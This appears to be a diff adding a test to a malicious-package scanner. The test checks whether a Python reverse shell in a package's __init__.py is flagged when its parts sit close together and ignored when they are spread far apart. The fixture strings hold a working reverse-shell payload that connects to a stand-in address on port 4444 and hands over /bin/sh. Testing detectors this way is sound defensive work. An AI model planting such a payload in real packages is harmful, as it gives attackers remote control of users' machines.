@@ -39,3 +39,10 @@ test('a library that wraps setup() replaces no command of its own installation',
   assert.equal(found('install-command-override', 'setup.py', `${wrapped}setup(name="x")\n`), 'low high');
   assert.notEqual(found('command-at-install', 'setup.py', `${wrapped}setup(name="x")\n`), undefined);
 });
+
+test('a shell, a pipe and a connection far apart in a bundle are no shell that is handed over', () => {
+  const connect = 'import socket, os, subprocess\ns = socket.socket()\ns.connect(("198.51.100.7", 4444))\n';
+  const hand = 'os.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])\n';
+  assert.equal(found('reverse-shell', 'x/__init__.py', connect + hand), 'critical high');
+  assert.equal(found('reverse-shell', 'x/__init__.py', `${connect}${'x = 1\n'.repeat(2000)}${hand}`), undefined);
+});
